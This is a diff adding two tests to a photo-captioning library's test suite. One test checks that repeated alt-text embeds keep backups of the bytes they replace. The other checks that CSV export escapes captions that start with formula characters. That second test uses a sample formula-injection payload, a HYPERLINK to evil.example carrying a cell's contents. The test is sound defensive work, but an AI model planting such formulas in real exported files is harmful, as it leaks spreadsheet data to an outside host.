@@ -123,6 +123,27 @@ def test_embedding_changes_nothing_but_the_fields(library: Library, photo_copy: 
     assert again.changed_files == 0 and again.new_photos == 0  # the library still knows the photo
 
 
+@needs_exiftool
+def test_every_embed_backs_up_the_bytes_it_replaces(library: Library, photo_copy: Path) -> None:
+    photo = photo_copy / "station/tokyo.jpg"
+    original = photo.read_bytes()
+    first = library.embed_alt_text(next(r for r in library.alt_text_records(["en"]) if r.path == str(photo)))
+    assert Path(first.backup).read_bytes() == original
+    # Another app edits the photo, then the caption is corrected and embedded again.
+    subprocess.run([EXIFTOOL, "-q", "-overwrite_original", "-XMP:Rating=4", str(photo)], check=True)
+    library.index()
+    edited = photo.read_bytes()
+    library.set_caption(str(photo), "The corrected name board of Tokyo Station")
+    second = library.embed_alt_text(next(r for r in library.alt_text_records(["en"]) if r.path == str(photo)))
+    assert second.backup != first.backup
+    assert Path(second.backup).read_bytes() == edited  # what this embed replaced
+    assert Path(first.backup).read_bytes() == original  # the first original is still there
+    embedded = photo.read_bytes()
+    third = library.embed_alt_text(next(r for r in library.alt_text_records(["en"]) if r.path == str(photo)))
+    assert Path(third.backup).read_bytes() == embedded
+    assert len(list((photo.parent / ".shashin-backup").iterdir())) == 3
+
+
 def test_read_only_photo_is_a_clear_error(library: Library, photo_copy: Path) -> None:
     photo = photo_copy / "station/tokyo.jpg"
     photo.chmod(0o444)
@@ -145,6 +166,15 @@ def test_tables_and_snippets(library: Library, tmp_path: Path) -> None:
     snippet = tmp_path / "alt.html"
     run_cli("export", "alt-text", "--db", str(library.path), "--format", "html", "--out", str(snippet), check=True)
     assert '<img src="file://' in snippet.read_text() and 'alt="東京駅の青い駅名標" lang="ja"' in snippet.read_text()
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(library: Library, photo_copy: Path) -> None:
+    library.set_caption(str(photo_copy / "games/card-game.png"), '=HYPERLINK("http://evil.example/?"&A1,"click")')
+    rows = list(__import__("csv").reader(__import__("io").StringIO(
+        run_cli("export", "alt-text", "--db", str(library.path), "--format", "csv", "--lang", "en", check=True).stdout)))
+    card = next(row for row in rows if row[0].endswith("card-game.png"))
+    assert card[2].startswith("'=HYPERLINK")
+    assert not any(cell[:1] in "=+-@" for row in rows for cell in row if cell)
 
 
 def test_caption_set_command(library: Library, photo_copy: Path) -> None:
